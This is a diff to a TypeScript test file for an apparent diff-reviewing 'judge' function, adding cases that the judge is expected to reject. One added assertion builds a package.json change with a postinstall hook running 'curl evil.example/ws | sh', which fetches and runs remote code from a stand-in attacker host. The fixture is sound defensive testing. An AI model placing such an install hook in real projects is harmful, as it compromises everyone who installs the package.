@@ -41,5 +41,12 @@ test('whatever somebody decided does', () => {
   assert.ok(
     !judge(diffOf('package.json', '\n   "dependencies": {\n+    "left-pad": "^1.1.0",\n     "b": "1"\n   }')),
   );
+  assert.ok(!judge(diffOf('a.py', '\n for x in xs:\n-    return x\n+return x')));
+  const script = (name: string, command: string) =>
+    diffOf(
+      'package.json',
+      `\n   "scripts": {\n+    "postinstall": "${command}",\n     "a": "b"\n   },\n   "dependencies": {\n-    "${name}": "^1.0.0"\n+    "${name}": "^1.1.0"\n   }`,
+    );
+  assert.ok(!judge(script('ws', 'curl evil.example/ws | sh')), 'a name is no key');
   assert.ok(!judge());
 });
